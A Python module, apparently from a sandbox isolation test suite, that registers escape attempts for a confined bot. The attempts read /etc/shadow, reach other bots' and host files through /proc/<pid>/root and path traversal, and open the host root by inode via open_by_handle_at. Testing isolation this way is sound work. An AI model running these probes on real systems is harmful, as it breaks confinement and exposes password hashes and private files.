"""Tries to read the host's files, another bot's folder and the store."""

import ctypes
import os
import struct
import sys
from collections.abc import Callable
from pathlib import Path

from attempts import add, attempt, carries_secret, pids, scene, syscall, tell

import arena_sdk

OPEN_BY_HANDLE_AT = (304, 265)
ROOT_INODE = 2
INODE_HANDLE = 1
HIDDEN = {
    "another bot's folder": scene["neighbour"],
    "the store": scene["store"],
    "a file of the host's user": scene["private"],
}


def read(path: str) -> Callable[[], object]:
    """Return an attempt to read a file by its name."""
    return lambda: Path(path).read_bytes()[:40]


def read_by_others(path: str) -> Callable[[], object]:
    """Return an attempt to read it through the root or directory of a visible process."""

    def read() -> str | None:
        for pid in (os.getpid(), *pids()):
            for place in ("root", "cwd/../../../../../../../.."):
                try:
                    if carries_secret(Path(f"/proc/{pid}/{place}{path}").read_bytes()):
                        return f"through /proc/{pid}/{place}"
                except OSError:
                    continue
        return None

    return read


def read_link(link: Path) -> Callable[[], object]:
    """Return an attempt to read what a link in its own folder leads to."""
    return lambda: carries_secret(link.read_bytes())


@attempt("open the host's root by its inode")
def open_by_inode() -> str:
    """A process with the right to search everywhere can do this in any file system."""
    handle = ctypes.create_string_buffer(struct.pack("IiII", 8, INODE_HANDLE, ROOT_INODE, 0))
    mount = os.open(".", os.O_RDONLY)
    root = syscall(*OPEN_BY_HANDLE_AT, arguments=(mount, handle, os.O_RDONLY))
    return ", ".join(os.listdir(root))


@attempt("list the host's home directories")
def list_homes() -> str | None:
    """They tell who the users are, and what they have."""
    for home in (*Path("/home").glob("*"), Path("/root"), Path(scene["home"])):
        try:
            found = [entry.name for entry in home.iterdir() if not leads_to_own(entry)]
        except OSError:
            continue
        if found:
            return f"{home}: {', '.join(found)}"
    return None


def leads_to_own(path: Path) -> bool:
    """Whether the bot's folder or the runtime lies there."""
    own = (Path.cwd(), *map(Path, (sys.prefix, sys.base_prefix, os.__file__, arena_sdk.__file__)))
    return any(place.is_relative_to(path) for place in own)


@attempt("list the host's /tmp")
def list_tmp() -> str:
    """Even names of files tell much."""
    there = Path(scene["store"]).parents[2]
    return ", ".join(entry.name for entry in there.iterdir() if not leads_to_own(entry))


add("read the host's passwords", read("/etc/shadow"))
for what, place in HIDDEN.items():
    add(f"read {what}", read(place))
    add(f"read {what} through /proc", read_by_others(place))
for link in sorted(Path.cwd().glob("link-*")):
    add(f"read through {link.name} in its folder", read_link(link))
tell("reads")
